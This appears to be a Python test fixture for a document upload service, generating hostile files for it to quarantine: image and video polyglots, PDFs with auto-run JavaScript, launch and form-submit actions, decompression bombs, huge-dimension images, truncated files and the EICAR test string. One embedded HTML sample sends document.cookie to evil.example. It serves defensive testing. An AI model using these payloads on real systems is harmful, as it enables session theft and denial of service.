"""Files as attackers send them, each with what it is announced as and why it is quarantined."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from functools import cache, partial
from io import BytesIO
from typing import NamedTuple
from zipfile import ZipFile

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from functions.documents.kinds import ContentType, Flaw
from tests.unit.documents.corpus import (
    box,
    compressed_pdf,
    film,
    heic,
    pdf,
    picture,
    scanned,
    stream,
)
from tests.unit.documents.files import ftyp

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
_HTML = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"


class Hostile(NamedTuple):
    """What it is announced as, what it is, and why it is quarantined."""

    content_type: ContentType
    content: bytes
    flaw: Flaw


@cache
def hostile() -> dict[str, Hostile]:
    """What it is called -> what it is announced as, its content, its flaw."""
    return dict((*_polyglots(), *_acting(), *_exploding(), *_broken(), *_infected()))


Named = Iterator[tuple[str, Hostile]]


def _polyglots() -> Named:
    jpeg, png, webp = picture("JPEG"), picture("PNG"), picture("WEBP")
    for name, kind, content in (
        ("jpeg and zip", ContentType.JPEG, jpeg + archive()),
        ("jpeg and zip with a comment", ContentType.JPEG, jpeg + archive()[:-2] + b"\5\0hello"),
        ("jpeg and rar", ContentType.JPEG, jpeg + b"Rar!\x1a\x07\x01\x00"),
        ("png and 7-zip", ContentType.PNG, png + b"7z\xbc\xaf\x27\x1c\x00\x04"),
        ("png and page", ContentType.PNG, png + _HTML.upper()),
        ("webp and pdf", ContentType.WEBP, webp + pdf()),
        ("jpeg with a page in its head", ContentType.JPEG, _with_comment(jpeg, _HTML)),
        ("jpeg with a drawing in its head", ContentType.JPEG, _with_comment(jpeg, b"<svg/onload=")),
        ("heic and zip", ContentType.HEIC, heic() + archive()),
        ("mp4 and zip", ContentType.MP4, film() + archive()),
        ("mp4 and zip in a box", ContentType.MP4, film() + box(b"free", archive())),
        ("mp4 and page", ContentType.MP4, film() + _HTML),
        ("mp4 and rubbish", ContentType.MP4, film() + bytes(range(64))),
        ("pdf and zip", ContentType.PDF, pdf() + archive()),
        ("pdf and page", ContentType.PDF, pdf() + _HTML + b"%%EOF\n"),
        ("pdf with a page in its head", ContentType.PDF, pdf().replace(b"\n", b"\n%<html>\n", 1)),
    ):
        yield name, Hostile(kind, content, Flaw.POLYGLOT)


def _with_comment(jpeg: bytes, comment: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


def _acting() -> Named:
    script = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    scripts = DictionaryObject({NameObject("/Tree"): script})
    media = _action("/X", Subtype=NameObject("/RichMedia"))
    form = DictionaryObject({NameObject("/XFA"): ArrayObject()})
    for name, content in (
        ("pdf with a script", pdf(_adding("/Names", scripts))),
        ("pdf that begins with a script", pdf(_adding("/OpenAction", script))),
        (
            "pdf with a script spelt oddly",
            pdf(_adding("/AA", script)).replace(b"Java", b"J#61va"),
        ),
        (
            "pdf that starts a program",
            pdf(_adding("/OpenAction", _action("/Launch", F=TextStringObject("cmd.exe")))),
        ),
        (
            "pdf that sends what is filled in",
            pdf(_adding("/OpenAction", _action("/SubmitForm", F=TextStringObject("//evil")))),
        ),
        (
            "pdf that goes to another file",
            pdf(_adding("/OpenAction", _action("/GoToR", F=TextStringObject("//evil/x.pdf")))),
        ),
        ("pdf with a file", pdf(lambda writer: writer.add_attachment("a.exe", b"MZ"))),
        ("pdf with a dynamic form", pdf(_adding("/AcroForm", form))),
        (
            "pdf with a film",
            pdf(_adding("/Annot", media)),
        ),
        (
            "pdf with a deflated script",
            compressed_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        ),
        (
            "pdf with a deflated script spelt oddly",
            compressed_pdf(b"/OpenAction << /S /#4a#61vaScript /#4aS (app.alert\\(1\\)) >>"),
        ),
        (
            "pdf with a deflated script behind an honest entry",
            compressed_pdf(b"/OpenAction [3 0 R /Fit] /OpenAction << /S /JavaScript /JS (x) >>"),
        ),
        ("pdf with a deflated form", compressed_pdf(b"/AcroForm << /XFA [] >>")),
        (
            "pdf with a script that its table does not name",
            pdf() + b"99 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n",
        ),
    ):
        yield name, Hostile(ContentType.PDF, content, Flaw.ACTIVE_CONTENT)
    for name, password in (("pdf with a password", "secret"), ("pdf with restrictions", "")):
        locked = pdf(partial(PdfWriter.encrypt, user_password=password, owner_password="owner"))
        yield name, Hostile(ContentType.PDF, locked, Flaw.ENCRYPTED)


def _exploding() -> Named:
    large = deflated(160)
    for name, kind, content in (
        ("png of 2,500 million pixels", ContentType.PNG, png_of_size(50_000, 50_000)),
        ("png of 150 million pixels", ContentType.PNG, png_of_size(15_000, 10_000)),
        ("jpeg of 4,000 million pixels", ContentType.JPEG, jpeg_of_size(65_000, 65_000)),
        ("heic of 2,500 million pixels", ContentType.HEIC, heic(50_000, 50_000)),
        ("pdf that inflates", ContentType.PDF, inflating(large, "FlateDecode")),
        (
            "pdf that inflates twice",
            ContentType.PDF,
            inflating(zlib.compress(large), "FlateDecode", "FlateDecode"),
        ),
        (
            "pdf that inflates behind another filter",
            ContentType.PDF,
            inflating(large.hex().encode() + b">", "ASCIIHexDecode", "FlateDecode"),
        ),
        (
            "pdf that repeats",
            ContentType.PDF,
            inflating(b"\x81\x00" * 700_000 + b"\x80", "RunLengthDecode"),
        ),
        (
            "pdf with a picture of 2,500 million pixels",
            ContentType.PDF,
            pdf(_adding("/Thumb", _image(50_000, 50_000))),
        ),
    ):
        yield name, Hostile(kind, content, Flaw.EXPLODES)


def _broken() -> Named:
    nested = b"[" * 100_000 + b"]" * 100_000
    for name, kind, content in (
        ("jpeg cut off", ContentType.JPEG, picture("JPEG")[:3000]),
        ("png cut off", ContentType.PNG, picture("PNG")[:2000]),
        ("webp cut off", ContentType.WEBP, picture("WEBP")[:200]),
        ("mp4 cut off", ContentType.MP4, film()[:-100]),
        ("mp4 without a film", ContentType.MP4, ftyp(b"mp42", b"mp42")[:20] + box(b"free")),
        ("mp4 of a million boxes", ContentType.MP4, film() + box(b"free") * 200_000),
        ("heic without a picture", ContentType.HEIC, ftyp(b"heic", b"mif1")[:20] + box(b"mdat")),
        ("pdf that is a header", ContentType.PDF, b"%PDF-1.7\n%%EOF\n"),
        ("pdf without pages", ContentType.PDF, pdf(lambda writer: writer.remove_page(0))),
        ("pdf nested without end", ContentType.PDF, compressed_pdf(b"/Nest " + nested)),
        ("pdf cut off", ContentType.PDF, scanned()[:900]),
    ):
        yield name, Hostile(kind, content, Flaw.UNREADABLE)


def _infected() -> Named:
    for name, kind, content in (
        ("test virus", ContentType.PDF, EICAR),
        ("pdf with the test virus", ContentType.PDF, pdf() + EICAR),
        ("jpeg with the test virus", ContentType.JPEG, _with_comment(picture("JPEG"), EICAR)),
    ):
        yield name, Hostile(kind, content, Flaw.MALWARE)


def _adding(key: str, value: PdfObject) -> Callable[[PdfWriter], object]:
    """Something more in the catalog of a PDF."""
    return lambda writer: writer.root_object.update({NameObject(key): writer._add_object(value)})


def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
    named = {NameObject(f"/{name}"): value for name, value in entries.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **named})


def deflated(megabytes: int) -> bytes:
    """So many megabytes of zeros, deflated: a thousandth of that."""
    packer, zeros = zlib.compressobj(9), bytes(1024 * 1024)
    return b"".join(packer.compress(zeros) for _ in range(megabytes)) + packer.flush()


def inflating(data: bytes, *filters: str) -> bytes:
    """A PDF with a stream of this data, behind these filters."""
    names = ArrayObject(NameObject(f"/{name}") for name in filters)
    return pdf(_adding("/Thumb", stream(data, Filter=names)))


def png_of_size(width: int, height: int) -> bytes:
    """A PNG that says it has this size; nobody has the memory to look."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
        + chunk(b"IDAT", deflated(1))
        + chunk(b"IEND", b"")
    )


def jpeg_of_size(width: int, height: int) -> bytes:
    """A JPEG that says it has this size."""
    content = picture("JPEG", size=(64, 64))
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">HH", height, width) + content[at + 4 :]


def archive() -> bytes:
    written = BytesIO()
    with ZipFile(written, "w") as file:
        file.writestr("Evil.class", b"\xca\xfe\xba\xbe")
    return written.getvalue()


def _image(width: int, height: int) -> DecodedStreamObject:
    return stream(
        b"\xff\xd8\xff",
        Subtype=NameObject("/Image"),
        Filter=NameObject("/DCTDecode"),
        Width=NumberObject(width),
        Height=NumberObject(height),
    )
